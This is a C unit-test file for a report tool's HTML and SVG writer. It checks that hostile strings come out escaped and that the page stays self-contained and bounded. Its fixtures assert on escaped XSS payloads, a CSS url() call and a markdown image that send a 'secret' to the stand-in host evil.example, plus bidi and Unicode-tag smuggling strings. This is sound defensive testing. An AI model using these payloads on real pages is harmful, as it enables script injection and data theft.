/*
 * test_html.c — the HTML writer (reports/html.c) and its charts
 * (reports/svg.c): hostile strings stay text, the page is self-contained,
 * bounded and deterministic.
 */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "reports/html.h"
#include "reports/svg.h"
#include "tests/unit/report_fixture.h"

static char *render(const report *r)
{
	lt_status st = LT_EFATAL;
	char *out = fixture_render(report_write_html, r, &st);
	assert_int_equal(st, LT_OK);
	assert_non_null(out);
	return out;
}

static char *lower(const char *s)
{
	char *l = strdup(s);
	assert_non_null(l);
	for (char *p = l; *p; p++)
		*p = (char)tolower((unsigned char)*p);
	return l;
}

#define ESC(x) "<span class=\"esc\">" x "</span>"

static void html__hostile__payloads_are_text(void **state)
{
	(void)state;
	report *r = fixture_hostile();
	assert_non_null(r);
	char *out = render(r);
	assert_non_null(strstr(out, "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;"));
	assert_non_null(strstr(out, "&quot;&gt;&lt;img src=x onerror=&quot;document.title=&#39;img&#39;&quot;&gt;"));
	assert_non_null(strstr(out, "&lt;/style&gt;&lt;script&gt;document.title=&#39;style&#39;&lt;/script&gt;"));
	assert_non_null(strstr(out, "red;}&lt;/style&gt;&lt;style&gt;body{background:url(https://evil.example/css)}"));
	assert_non_null(strstr(out, "evil" ESC("\\u202E") "txt.exe" ESC("\\u2066") "iso" ESC("\\u2069")));
	assert_non_null(strstr(out, "nul" ESC("\\x00") "ctl" ESC("\\x01") ESC("\\x1B") "[31m"));
	assert_non_null(strstr(out, "bad" ESC("\\xFF") ESC("\\xFE") ESC("\\xC0") ESC("\\xAF") "utf8"));
	assert_non_null(strstr(out, "tag" ESC("\\u{E0041}") "smuggle"));
	assert_non_null(strstr(out, "![x](https://evil.example/?q=secret)"));
	assert_non_null(strstr(out, "]]&gt;&lt;!-- --&gt;&amp;amp;&amp;#x3C;"));
	/* inside SVG, escapes are plain text (a <span> would break out of <svg>) */
	size_t svgs = 0;
	for (const char *p = strstr(out, "<svg"); p != NULL; p = strstr(p + 1, "<svg")) {
		const char *end = strstr(p, "</svg>");
		assert_non_null(end);
		const char *span = strstr(p, "<span");
		assert_true(span == NULL || span > end);
		svgs++;
	}
	assert_int_equal(svgs, 3); /* timeline + two dashboard charts */
	free(out);
	report_free(r);
}

/* Checks the attribute names of the tag at p (outside quoted values): no
 * event handler, no src, no style attribute, and href only to a #fragment. */
static void check_tag(const char *p)
{
	const char *q = p + 1;
	while (*q && *q != ' ' && *q != '>')
		q++;
	while (*q && *q != '>') {
		while (*q == ' ' || *q == '\n')
			q++;
		const char *name = q;
		while (*q && *q != '=' && *q != ' ' && *q != '>')
			q++;
		size_t n = (size_t)(q - name);
		assert_false(n >= 2 && name[0] == 'o' && name[1] == 'n');
		assert_false(n == 3 && memcmp(name, "src", 3) == 0);
		assert_false(n == 5 && memcmp(name, "style", 5) == 0);
		if (*q == '=') {
			q++;
			assert_int_equal(*q, '"'); /* every value we write is double-quoted */
			if (n == 4 && memcmp(name, "href", 4) == 0) /* a fragment, or a file of the set */
				assert_true(q[1] == '#' || strncmp(q + 1, "integrity.csv\"", 14) == 0 ||
				            strncmp(q + 1, "custody.csv\"", 12) == 0);
			const char *close = strchr(q + 1, '"');
			assert_non_null(close);
			assert_null(memchr(q + 1, '<', (size_t)(close - q - 1)));
			q = close + 1;
		}
	}
	assert_int_equal(*q, '>');
}

/* Every tag in the page: no event handler, no URL but a #fragment or a file of the report set, no script. */
static void html__hostile__only_our_markup(void **state)
{
	(void)state;
	report *r = fixture_hostile();
	char *out = render(r);
	char *l = lower(out);
	assert_null(strstr(l, "<script"));
	assert_null(strstr(l, "<img"));
	assert_null(strstr(l, "<iframe"));
	assert_null(strstr(l, "<link"));
	assert_null(strstr(l, "<a href=\"http"));
	assert_null(strstr(l, "http-equiv=\"refresh"));
	assert_int_equal(fixture_count(l, "<style"), 1);
	assert_int_equal(fixture_count(l, "</style"), 1);
	size_t tags = 0;
	for (const char *p = strchr(l, '<'); p != NULL; p = strchr(p + 1, '<')) {
		check_tag(p);
		tags++;
	}
	assert_true(tags > 500);
	free(l);
	free(out);
	report_free(r);
}

static void html__random_strings__only_our_markup(void **state)
{
	(void)state;
	for (uint32_t seed = 1; seed <= 40; seed++) {
		report *r = fixture_random(seed);
		assert_non_null(r);
		char *out = render(r);
		char *l = lower(out);
		assert_null(strstr(l, "<script"));
		assert_int_equal(fixture_count(l, "<style"), 1);
		for (const char *p = strchr(l, '<'); p != NULL; p = strchr(p + 1, '<'))
			check_tag(p);
		assert_null(strstr(out, "\xE2\x80\xAE")); /* no raw bidi override */
		assert_null(memchr(out, '\x1b', strlen(out)));
		free(l);
		free(out);
		report_free(r);
	}
}

static void html__head__csp_and_charset(void **state)
{
	(void)state;
	report *r = fixture_plain();
	char *out = render(r);
	assert_true(strncmp(out, "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
	                         "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src "
	                         "'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; "
	                         "form-action 'none'\">\n",
	                    strlen("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"
	                           "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src "
	                           "'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; "
	                           "form-action 'none'\">\n")) == 0);
	assert_non_null(strstr(out, "@media print{"));
	assert_non_null(strstr(out, "</html>\n"));
	free(out);
	report_free(r);
}

static void html__sections__all_present_in_order(void **state)
{
	(void)state;
	report *r = fixture_plain();
	char *out = render(r);
	const char *ids[] = {"summary", "timeline", "findings", "dashboard", "integrity", "evidence", "rules", "problems"};
	const char *prev = out;
	for (size_t i = 0; i < sizeof ids / sizeof ids[0]; i++) {
		char needle[64];
		snprintf(needle, sizeof needle, "<section id=\"%s\">", ids[i]);
		const char *at = strstr(out, needle);
		assert_non_null(at);
		assert_true(at > prev);
		prev = at;
	}
	assert_non_null(strstr(out, "<p class=\"verdict fail\">FAIL: 2 findings at or above high (the fail-on level)"));
	assert_non_null(strstr(out, "<svg class=\"chart\" viewBox=\"0 0 1000 260\""));
	assert_non_null(strstr(out, "<span class=\"oc oc-unsupported\">unsupported</span>"));
	assert_non_null(strstr(out, "condition references unknown selection &#39;sel2&#39;"));
	assert_non_null(strstr(out, "<h3>Invalid</h3>"));
	assert_non_null(strstr(out, "<td class=\"num ck-invalid\">1</td>"));
	assert_non_null(strstr(out, "unterminated string at byte 17"));
	assert_non_null(strstr(out, "ffeeddccbbaa99887766554433221100ffeeddccbbaa99887766554433221100"));
	assert_non_null(strstr(out, "<td class=\"num\">910.25</td>"));
	free(out);
	report_free(r);
}

/* The verdict is the first thing read: in the page header, before the
 * incident cards and every section. */
static void html__verdict__in_header_before_sections(void **state)
{
	(void)state;
	report *r = fixture_plain();
	char *out = render(r);
	const char *v = strstr(out, "<p class=\"verdict fail\">");
	const char *end = strstr(out, "</header>");
	assert_non_null(v);
	assert_non_null(end);
	assert_true(v < end);
	assert_true(strstr(out, "<header class=\"top\">") < v);
	/* the problems and the integrity tally are read with it, before any section */
	const char *t = strstr(out, "<div class=\"triage\">");
	assert_non_null(t);
	assert_true(t < end);
	assert_non_null(strstr(t, "<a href=\"#problems\">all problems</a>"));
	assert_non_null(strstr(t, "<b>Integrity:</b> 1 valid, <span class=\"ck-invalid\">1 invalid</span>, 1 unverifiable"));
	free(out);
	report_free(r);
}

/* A note taken while reading (a CloudWatch Logs control message skipped) is
 * not an evidence problem: the header says so, as stdout does
 * ("evidence problems: 0"), and does not list it as one. */
static void html__notes_only__no_evidence_problem(void **state)
{
	(void)state;
	report *r = report_new(NULL);
	assert_non_null(r);
	lt_error e;
	lt_error_clear(&e);
	assert_int_equal(report_add_problem(r, "ev", "cwl-1", 0, RPT_SEV_INFO, "CONTROL_MESSAGE skipped", &e), LT_OK);
	char *out = render(r);
	const char *t = strstr(out, "<div class=\"triage\">");
	assert_non_null(t);
	assert_non_null(strstr(t, "<b>No evidence problem</b> (everything was read); 1 note taken while reading"));
	assert_null(strstr(out, "evidence problem</b>:"));
	free(out);
	report_free(r);
}

static void html__match__marked_and_redacted(void **state)
{
	(void)state;
	report *r = fixture_plain();
	char *out = render(r);
	assert_non_null(strstr(out, "please deploy with key <mark class=\"red\" title=\"redacted\">"
	                            "AKIA\xE2\x80\xA6(20 chars)</mark> and secret"));
	assert_non_null(strstr(out, "<mark>Access</mark>Denied"));
	assert_null(strstr(out, "AKIAIOSFODNN7EXAMPLE"));
	assert_null(strstr(out, "Redaction is off"));
	free(out);
	report_free(r);
}

static void html__no_redact__warns_and_shows(void **state)
{
	(void)state;
	rpt_options o;
	rpt_options_default(&o);
	o.redact = false;
	report *r = report_new(&o);
	rpt_rule_in ri;
	memset(&ri, 0, sizeof ri);
	ri.pack = "p";
	ri.id = "key";
	ri.level = RPT_LEVEL_HIGH;
	size_t k;
	assert_int_equal(report_add_rule(r, &ri, &k, NULL), LT_OK);
	rpt_event_in e;
	rpt_event_init(&e);
	e.time_us = FIXTURE_RUN_US;
	rpt_match_in m = {rpt_s("prompt"), rpt_s("AKIAIOSFODNN7EXAMPLE"), 0, 20, true};
	assert_int_equal(report_add_hit(r, k, NULL, 0, &e, &m, 1, NULL), LT_OK);
	char *out = render(r);
	assert_non_null(strstr(out, "<b>Redaction is off.</b>"));
	assert_non_null(strstr(out, "<mark>AKIAIOSFODNN7EXAMPLE</mark>"));
	free(out);
	report_free(r);
}

static void html__empty__pass_and_placeholders(void **state)
{
	(void)state;
	report *r = report_new(NULL);
	char *out = render(r);
	assert_non_null(strstr(out, "<p class=\"verdict noevidence\">NO EVIDENCE: no event could be read"));
	assert_non_null(strstr(out, "No rule produced a finding."));
	assert_non_null(strstr(out, "No events were counted for the timeline."));
	assert_non_null(strstr(out, "None: every evidence file and member was read."));
	assert_null(strstr(out, "id=\"dashboard\""));
	free(out);
	report_free(r);
}

/* A finding is weighed against what else makes its rule fire: the rule's
 * Sigma falsepositives and references are shown with it, escaped. */
static void html__rule_falsepositives__shown_with_finding(void **state)
{
	(void)state;
	report *r = report_new(NULL);
	const char *fps[] = {"A CI job <script>x</script> that rotates keys", "Load tests"};
	const char *refs[] = {"https://docs.aws.amazon.com/bedrock/"};
	rpt_rule_in ri;
	memset(&ri, 0, sizeof ri);
	ri.pack = "core";
	ri.id = "r-fp";
	ri.title = "Rule with notes";
	ri.level = RPT_LEVEL_HIGH;
	ri.falsepositives = fps;
	ri.nfalsepositives = 2;
	ri.references = refs;
	ri.nreferences = 1;
	size_t k = 0;
	assert_int_equal(report_add_rule(r, &ri, &k, NULL), LT_OK);
	rpt_event_in e;
	rpt_event_init(&e);
	e.uid = rpt_s("ev-1");
	e.time_us = 1714564800LL * 1000000LL;
	e.source = rpt_s("cloudtrail");
	assert_int_equal(report_add_hit(r, k, NULL, 0, &e, NULL, 0, NULL), LT_OK);
	char *out = render(r);
	const char *at = strstr(out, "<dt>Could also be</dt>");
	assert_non_null(at);
	assert_non_null(strstr(at, "A CI job &lt;script&gt;x&lt;/script&gt; that rotates keys"));
	assert_non_null(strstr(at, "<li>Load tests</li>"));
	assert_non_null(strstr(at, "<dt>References</dt>"));
	assert_null(strstr(out, "<script>"));
	free(out);
	report_free(r);
}

static void html__same_model__same_bytes(void **state)
{
	(void)state;
	report *r1 = fixture_hostile(), *r2 = fixture_hostile();
	char *a = render(r1), *b = render(r2), *a2 = render(r1);
	assert_string_equal(a, b);
	assert_string_equal(a, a2);
	free(a);
	free(b);
	free(a2);
	report_free(r1);
	report_free(r2);
}

/* 10,000 findings stay a page a person can use: counts per level linking
 * to each level's heading, a by-rule table linking to each rule's block,
 * the first N findings of a rule in full, a bounded table, the rest named
 * in findings.jsonl; the page under HTML_MAX_PAGE_BYTES. */
static void html__10000_findings__bounded_and_counted(void **state)
{
	(void)state;
	report *r = fixture_many(10000, 4);
	assert_non_null(r);
	clock_t t0 = clock();
	char *out = render(r);
	double secs = (double)(clock() - t0) / CLOCKS_PER_SEC;
	size_t len = strlen(out);
	printf("# 10000 findings / 4 rules: %zu bytes of HTML in %.3f s\n", len, secs);
	assert_true(len < HTML_MAX_PAGE_BYTES);
	assert_int_equal(fixture_count(out, "<details class=\"finding\""), 4 * HTML_MAX_FINDINGS_PER_RULE);
	assert_int_equal(fixture_count(out, "2,280 more finding(s) of this rule are not shown; findings.jsonl has them all"), 4);
	assert_non_null(strstr(out, "<b>10,000</b><span>findings</span>"));
	assert_non_null(strstr(out, "<summary>By rule: 4 rules</summary>"));
	/* findings and events per rule */
	assert_int_equal(fixture_count(out, "</a></td><td class=\"num\">2,500</td><td class=\"num\">2,500</td></tr>"), 4);
	assert_int_equal(fixture_count(out, "<tr><td><span class=\"badge"), 4);
	for (size_t i = 0; i < 4; i++) {
		char link[64], anchor[64];
		snprintf(link, sizeof link, "<a href=\"#rule-%zu\">", i);
		snprintf(anchor, sizeof anchor, "<details class=\"rule\" id=\"rule-%zu\"", i);
		assert_non_null(strstr(out, link));
		assert_non_null(strstr(out, anchor));
	}
	const char *lv = strstr(out, "<p class=\"levels\"><a href=\"#findings-");
	assert_non_null(lv);
	char target[64];
	snprintf(target, sizeof target, "<h3 id=\"findings-%.*s\">", (int)strcspn(lv + 37, "\""), lv + 37);
	assert_non_null(strstr(out, target));
	free(out);
	report_free(r);

	r = fixture_many(10000, 2500); /* spread thin: the global budgets apply */
	out = render(r);
	len = strlen(out);
	printf("# 10000 findings / 2500 rules: %zu bytes of HTML\n", len);
	assert_true(len < HTML_MAX_PAGE_BYTES);
	assert_int_equal(fixture_count(out, "<details class=\"finding\""), 500);
	assert_int_equal(fixture_count(out, "<details class=\"rule\""), HTML_MAX_RULE_BLOCKS);
	assert_int_equal(fixture_count(out, "<details class=\"rule\" id=\"rule-"), HTML_MAX_RULE_BLOCKS);
	assert_int_equal(fixture_count(out, "\" open><summary><span class=\"badge"), HTML_OPEN_RULES);
	assert_int_equal(fixture_count(out, "<tr><td><span class=\"badge"), 2500); /* the by-rule table */
	assert_non_null(strstr(out, "8,000 finding(s) of rules past the first 500 are only counted"));
	free(out);
	report_free(r);
}

/* 1,803 identical unverifiable checks and 2,823 custody members: the page
 * shows counts per kind, the invalid checks and members with problems in
 * full, one line per unverifiable reason, and links the CSVs. */
static void html__big_custody__summarised_with_csv_links(void **state)
{
	(void)state;
	report *r = fixture_plain();
	assert_non_null(r);
	lt_error e;
	lt_error_clear(&e);
	char obj[64], sha[65];
	for (int i = 0; i < 1803; i++) {
		snprintf(obj, sizeof obj, "digest-%04d.json.gz", i);
		assert_int_equal(report_add_integrity(r, obj, "signature", RPT_CHECK_UNVERIFIABLE,
		                                      "no public key with fingerprint 6142 (give --public-keys)", &e), LT_OK);
	}
	for (int i = 0; i < 2823; i++) {
		rpt_evidence_in ev;
		memset(&ev, 0, sizeof ev);
		snprintf(obj, sizeof obj, "member-%04d.json.gz", i);
		snprintf(sha, sizeof sha, "%064d", i);
		ev.path = "evidence.tar.gz";
		ev.member = obj;
		ev.sha256 = sha;
		ev.format = "cloudtrail";
		ev.events = 2;
		assert_int_equal(report_add_evidence(r, &ev, &e), LT_OK);
	}
	char *out = render(r);
	const char *ig = strstr(out, "<section id=\"integrity\">");
	assert_non_null(ig);
	assert_non_null(strstr(ig, "<a href=\"integrity.csv\">integrity.csv</a>"));
	assert_null(strstr(out, "digest-0001.json.gz"));             /* no per-row list */
	assert_non_null(strstr(ig, "<td class=\"mono\">digest-0000.json.gz</td>")); /* the reason's first object */
	assert_non_null(strstr(ig, "<td class=\"num\">1,803</td>"));
	assert_non_null(strstr(ig, "<td class=\"mono\">x.json.gz</td>")); /* the invalid check, in full */
	const char *ev = strstr(out, "<section id=\"evidence\">");
	assert_non_null(ev);
	assert_non_null(strstr(ev, "<a href=\"custody.csv\">custody.csv</a>"));
	assert_null(strstr(out, "member-0001.json.gz"));
	assert_non_null(strstr(ev, "<td>cloudtrail</td><td class=\"num\">2,824</td>"));
	assert_non_null(strstr(ev, "Files and members with problems")); /* the fixture's member with a problem */
	printf("# 1803 checks, 2825 members: %zu bytes of HTML\n", strlen(out));
	assert_true(strlen(out) < 64 * 1024);
	free(out);
	report_free(r);
}

/* The period per account/region: a section after the controls, linked from
 * the table of contents, every value escaped, gaps spelled out and counted. */
static void html__period__section_escaped_and_counted(void **state)
{
	(void)state;
	report *r = fixture_plain();
	assert_non_null(r);
	rpt_str silent[] = {rpt_s("2026-03-10T03"), rpt_s("2026-03-10T04")};
	rpt_period p = {
		.account = rpt_s("<b>111</b>"),
		.region = rpt_s("us-east-1"),
		.first_us = 1773014400LL * 1000000,
		.last_us = 1773100800LL * 1000000,
		.cloudtrail = 901,
		.invocation = 185,
		.silent_hours = 5,
		.silent_list = {silent, 2},
		.dark_days = 0,
	};
	lt_error e;
	lt_error_clear(&e);
	assert_int_equal(report_add_period(r, &p, &e), LT_OK);
	char *out = render(r);
	const char *sec = strstr(out, "<section id=\"period\"><h2>Period covered</h2>");
	assert_non_null(sec);
	assert_non_null(strstr(out, "<a href=\"#period\">Period</a>"));
	assert_non_null(strstr(sec, "&lt;b&gt;111&lt;/b&gt;"));
	assert_null(strstr(out, "<b>111</b>"));
	assert_non_null(strstr(sec, "<b>5</b>: <span class=\"mono\">2026-03-10T03</span>, <span class=\"mono\">2026-03-10T04</span> "
	                            "<span class=\"muted\">and 3 more</span>"));
	assert_non_null(strstr(sec, "<td class=\"num\">901</td><td class=\"num\">185</td>"));
	free(out);
	report_free(r);
}

static void svg__fmt_num__no_locale_no_exponent(void **state)
{
	(void)state;
	char b[40];
	svg_fmt_num(3, b);
	assert_string_equal(b, "3");
	svg_fmt_num(-4.5, b);
	assert_string_equal(b, "-4.5");
	svg_fmt_num(0.25, b);
	assert_string_equal(b, "0.25");
	svg_fmt_num(1e15, b);
	assert_string_equal(b, "1000000000000000");
	svg_fmt_num(0.001, b);
	assert_string_equal(b, "0");
	svg_fmt_num(1.0 / 0.0, b);
	assert_string_equal(b, "-");
	assert_string_equal(svg_color(0), svg_color(8));
}

static lt_status timeline_writer(const report *r, FILE *f, lt_error *err)
{
	(void)err;
	svg_timeline(f, r);
	return LT_OK;
}

static char *render_timeline(const report *r)
{
	lt_status st;
	char *out = fixture_render(timeline_writer, r, &st);
	assert_non_null(out);
	return out;
}

static void svg__timeline__step_fits_bars(void **state)
{
	(void)state;
	report *r = report_new(NULL);
	rpt_event_in e;
	rpt_event_init(&e);
	e.source = rpt_s("cloudtrail");
	for (int d = 0; d < 60; d++) { /* 60 days: 1440 hours -> 12 h steps (120 bars) */
		e.time_us = FIXTURE_RUN_US + (int64_t)d * 86400 * 1000000;
		assert_int_equal(report_note_event(r, &e, NULL), LT_OK);
	}
	char *out = render_timeline(r);
	assert_non_null(strstr(out, "Events per 12 hours"));
	assert_true(fixture_count(out, "<g><title>") <= SVG_MAX_BARS);
	assert_int_equal(fixture_count(out, "<rect x="), 60 + 1 /* legend */);
	free(out);
	e.source = rpt_s("<b>x</b>");
	assert_int_equal(report_note_event(r, &e, NULL), LT_OK);
	out = render_timeline(r);
	const char *svg = strstr(out, "<svg");
	assert_non_null(svg);
	assert_non_null(strstr(svg, "&lt;b&gt;x&lt;/b&gt;"));
	assert_null(strstr(svg, "<span"));
	free(out);
	report_free(r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(html__hostile__payloads_are_text),
		cmocka_unit_test(html__hostile__only_our_markup),
		cmocka_unit_test(html__random_strings__only_our_markup),
		cmocka_unit_test(html__head__csp_and_charset),
		cmocka_unit_test(html__sections__all_present_in_order),
		cmocka_unit_test(html__verdict__in_header_before_sections),
		cmocka_unit_test(html__notes_only__no_evidence_problem),
		cmocka_unit_test(html__rule_falsepositives__shown_with_finding),
		cmocka_unit_test(html__match__marked_and_redacted),
		cmocka_unit_test(html__no_redact__warns_and_shows),
		cmocka_unit_test(html__empty__pass_and_placeholders),
		cmocka_unit_test(html__same_model__same_bytes),
		cmocka_unit_test(html__10000_findings__bounded_and_counted),
		cmocka_unit_test(html__big_custody__summarised_with_csv_links),
		cmocka_unit_test(html__period__section_escaped_and_counted),
		cmocka_unit_test(svg__fmt_num__no_locale_no_exponent),
		cmocka_unit_test(svg__timeline__step_fits_bars),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
